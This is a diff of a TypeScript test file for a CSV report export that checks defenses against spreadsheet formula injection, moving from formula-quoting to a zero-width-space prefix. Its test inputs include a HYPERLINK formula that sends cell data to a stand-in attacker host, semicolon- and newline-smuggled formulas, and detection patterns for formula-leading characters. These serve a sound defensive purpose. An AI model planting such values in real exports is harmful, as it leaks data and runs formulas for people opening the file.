@@ -68,17 +68,8 @@ const text = fc.oneof(
 const cell = fc.option(text, { freq: 10 })
 const report = fc.record({ account_name: cell, dealer_name: cell, status: cell })
 
-/** What a spreadsheet shows for a cell: the value of a formula that joins literals, else the cell itself. */
-function shown(cell: string): string {
-  const literal = /"((?:[^"]|"")*)"|CHAR\((\d+)\)/g
-  if (!/^="/.test(cell)) return cell
-  expect(cell.slice(1).replaceAll(literal, '')).toMatch(/^&*$/)
-  const parts = Array.from(cell.matchAll(literal), ([, text, code]) =>
-    code === undefined ? (text ?? '').replaceAll('""', '"') : String.fromCharCode(Number(code)),
-  )
-  for (const part of parts) expect([...part].length).toBeLessThanOrEqual(200)
-  return parts.join('')
-}
+/** What is seen of a text: a zero-width space is not. */
+const seen = (text: string | null) => (text ?? '').replaceAll('\u200B', '')
 
 /** Pieces that Excel takes for cells where its list separator is a semicolon and quotes are not at the start. */
 const piecesAtSemicolons = (csv: Buffer) =>
@@ -95,50 +86,60 @@ it('whatever the cells hold, a spreadsheet shows just that, and runs no other fo
       const csv = await csvOf(reports)
       const [first, ...rows] = readCsv(csv)
       expect(first).toEqual(headings)
-      expect(rows.map((cells) => cells.map(shown))).toEqual(
+      expect(rows.map((cells) => cells.map(seen))).toEqual(
         reports.map(({ account_name, dealer_name, status }) => [
-          ...[account_name ?? '', 'Knoxville', 'TN', dealer_name ?? '', '', '', status ?? ''],
+          ...[seen(account_name), 'Knoxville', 'TN', seen(dealer_name), '', '', seen(status)],
         ]),
       )
-      for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*(=(?!")|[-+@＝＋－＠])/)
-      for (const piece of piecesAtSemicolons(csv))
-        expect(piece).not.toMatch(/^[\s"']*([-+@＝＋－＠]|=(?!""))/)
+      for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[-=+@＝＋－＠]/)
+      for (const piece of piecesAtSemicolons(csv)) expect(piece).not.toMatch(/^[\s"']*[-=+@＝＋－＠]/)
     }),
     { numRuns: 150 },
   )
 })
 
 it.each([
-  ['=1+1', '="=1+1"'],
-  ['=HYPERLINK("http://evil.example?"&A1,"Click")', '="=HYPERLINK(""http://evil.example?""&A1,""Click"")"'],
-  [';=1+1', '=""&CHAR(59)&"=1+1"'],
-  ['x\n=1+1', '="x"&CHAR(10)&"=1+1"'],
-  ['-2+3', '="-2+3"'],
-  ['@SUM(A1:A9)', '="@SUM(A1:A9)"'],
-  ['\t=1+1', '=""&CHAR(9)&"=1+1"'],
-  ['＝1+1', '="＝1+1"'],
-  ['+', '="+"'],
-  ['+615-555-0100', '="+615-555-0100"'],
-  ['+1 615 555 0100', '="+1 615 555 0100"'],
-  ['0012', '="0012"'],
-  ['1/2', '="1/2"'],
-  ['1E5', '="1E5"'],
-  ['12345678901234567890', '="12345678901234567890"'],
-  ['$1,000.50', '="$1,000.50"'],
-  ['TRUE', '="TRUE"'],
-  ['May 2020', '="May 2020"'],
-  ['3-Mar', '="3-Mar"'],
-  ['10:30 PM', '="10:30 PM"'],
-  ['3M Company', '3M Company'],
-  ['Maybe 3', 'Maybe 3'],
-  ['Baker, Finch & Sons; Paper', 'Baker, Finch & Sons; Paper'],
-  ["'quoted'", "'quoted'"],
-  ['A=B', 'A=B'],
-  ['True North Supply', 'True North Supply'],
-])('the cell %j is written as %j', { tags: ['REPORT-13'] }, async (value, written) => {
-  const [, row] = readCsv(await csvOf([{ account_name: null, dealer_name: value, status: null }]))
-  expect(row?.[3]).toBe(written)
+  '=1+1',
+  '=HYPERLINK("http://evil.example?"&A1,"Click")',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '＝1+1',
+  '+',
+  '+615-555-0100',
+  '+1 615 555 0100',
+  '0012',
+  '1/2',
+  '1E5',
+  '12345678901234567890',
+  '$1,000.50',
+  'TRUE',
+  'May 2020',
+  '3-Mar',
+  '10:30 PM',
+])('a zero-width space keeps %j a text', { tags: ['REPORT-13'] }, async (value) => {
+  expect(await written(value)).toBe(`\u200B${value}`)
 })
+
+it.each([
+  [';=1+1', ';\u200B=1+1'],
+  ['\t=1+1', '\t\u200B=1+1'],
+  ['x\n=1+1', 'x\n\u200B=1+1'],
+  ['x; "-1', 'x;\u200B "-1'],
+])('where a semicolon separates cells, %j is no formula', { tags: ['REPORT-13'] }, async (value, cell) => {
+  expect(await written(value)).toBe(cell)
+})
+
+it.each(['3M Company', 'Maybe 3', 'Baker, Finch & Sons; Paper', "'quoted'", 'A=B', 'True North Supply'])(
+  '%j is written as it is',
+  { tags: ['REPORT-13'] },
+  async (value) => expect(await written(value)).toBe(value),
+)
+
+/** The cell that is written for the name of a dealer. */
+async function written(value: string): Promise<string> {
+  const [, row] = readCsv(await csvOf([{ account_name: null, dealer_name: value, status: null }]))
+  return row?.[3] ?? ''
+}
 
 it('is UTF-8 with a byte order mark, its rows end with CR LF, dates are years, months and days', {
   tags: ['REPORT-14'],
@@ -156,7 +157,7 @@ it('is UTF-8 with a byte order mark, its rows end with CR LF, dates are years, m
   const { rawPayload } = await test.api.inject(path)
   expect(rawPayload.toString()).toBe(
     '\uFEFFAccount,City,State,Vendor,First purchase,Last purchase,Status\r\n' +
-      'Cañon City,Knoxville,TN,"Baker, ""Finch""",2020-02-29,,""\r\n',
+      '"Cañon City","Knoxville","TN","Baker, ""Finch""",2020-02-29,,""\r\n',
   )
 })
 
